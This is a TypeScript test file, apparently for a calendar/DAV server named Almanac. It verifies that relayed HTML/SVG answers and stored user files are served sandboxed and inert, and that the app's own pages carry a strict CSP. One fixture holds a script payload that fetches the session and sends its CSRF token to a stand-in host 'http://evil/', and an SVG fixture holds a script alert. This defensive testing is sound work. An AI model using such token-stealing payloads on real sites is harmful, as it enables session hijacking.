import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { davFetch, startTestServer, type TestServer } from '../../helpers/server.js';

const HOSTILE_PAGE =
  '<html><script>fetch("/app/session").then(r=>r.json()).then(s=>navigator.sendBeacon("http://evil/",s.csrf))</script></html>';

async function login(base: string): Promise<Record<string, string>> {
  const res = await fetch(`${base}/app/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ user: 'alice', password: 'alice-pw' }),
  });
  assert.equal(res.status, 200);
  const csrf = ((await res.json()) as { csrf: string }).csrf;
  return { Cookie: (res.headers.get('set-cookie') ?? '').split(';')[0]!, 'X-Almanac-CSRF': csrf };
}

/** A CSP that lets a browser run nothing: a sandbox without allow-scripts. */
function assertInert(res: Response, what: string): void {
  const csp = res.headers.get('content-security-policy') ?? '';
  assert.match(csp, /(^|;\s*)sandbox(;|$)/, `${what}: CSP sandbox (got '${csp}')`);
  assert.doesNotMatch(csp, /allow-scripts/, what);
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff', what);
}

describe("answers relayed from another server, and stored files, are never active content on Almanac's origin (CSP Level 3 sandbox, Fetch nosniff)", () => {
  let server: TestServer;
  let hostile: Server;
  let headers: Record<string, string>;
  let accountId: string;
  before(async () => {
    hostile = createServer((req, res) => {
      if (req.url?.endsWith('.html')) res.writeHead(200, { 'Content-Type': 'text/html' });
      else if (req.url?.endsWith('.svg')) res.writeHead(200, { 'Content-Type': 'image/svg+xml' });
      else res.writeHead(207, { 'Content-Type': 'application/xml; charset=utf-8' });
      res.end(
        req.url?.endsWith('.svg')
          ? '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
          : HOSTILE_PAGE,
      );
    });
    await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
    server = await startTestServer({ config: { relayAllowPrivate: true } });
    headers = await login(server.url);
    const add = await fetch(`${server.url}/app/accounts`, {
      method: 'POST',
      headers: { ...headers, 'Content-Type': 'application/json' },
      body: JSON.stringify({
        url: `http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`,
        username: 'u',
        password: 'p',
      }),
    });
    assert.equal(add.status, 201);
    accountId = ((await add.json()) as { id: string }).id;
  });
  after(async () => {
    await server.close();
    await new Promise((r) => hostile.close(r));
  });

  it('a relayed text/html or SVG answer is a sandboxed, unsniffed download of a neutral type', async () => {
    for (const name of ['x.html', 'x.svg']) {
      const res = await fetch(`${server.url}/relay/${accountId}/${name}`, { headers });
      assert.equal(res.status, 200, name);
      assert.equal(res.headers.get('content-type'), 'application/octet-stream', name);
      assert.equal(res.headers.get('content-disposition'), 'attachment', name);
      assertInert(res, name);
      await res.arrayBuffer();
    }
  });

  it('a relayed DAV answer keeps its XML type (the app reads it) and is inert all the same', async () => {
    const res = await fetch(`${server.url}/relay/${accountId}/cal/`, {
      method: 'PROPFIND',
      headers: { ...headers, Depth: '0' },
    });
    assert.equal(res.status, 207);
    assert.equal(res.headers.get('content-type'), 'application/xml; charset=utf-8');
    assertInert(res, 'PROPFIND');
  });

  it('an HTML file a user stored under /dav is served inert too', async () => {
    const dav = davFetch(server.url, 'alice');
    assert.equal(
      (
        await dav('/dav/files/alice/page.html', {
          method: 'PUT',
          headers: { 'Content-Type': 'text/html' },
          body: HOSTILE_PAGE,
        })
      ).status,
      201,
    );
    const res = await dav('/dav/files/alice/page.html');
    assert.equal(res.status, 200);
    assertInert(res, 'GET /dav');
  });

  it("the app's own pages have a strict CSP: scripts from this origin only, no inline script", async () => {
    const res = await fetch(`${server.url}/`);
    const csp = res.headers.get('content-security-policy') ?? '';
    const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
    assert.equal(scriptSrc.trim(), "'self'");
    assert.match(csp, /object-src 'none'/);
    assert.doesNotMatch(await res.text(), /<script(?![^>]*\bsrc=)[^>]*>/, 'no inline script in index.html');
  });
});
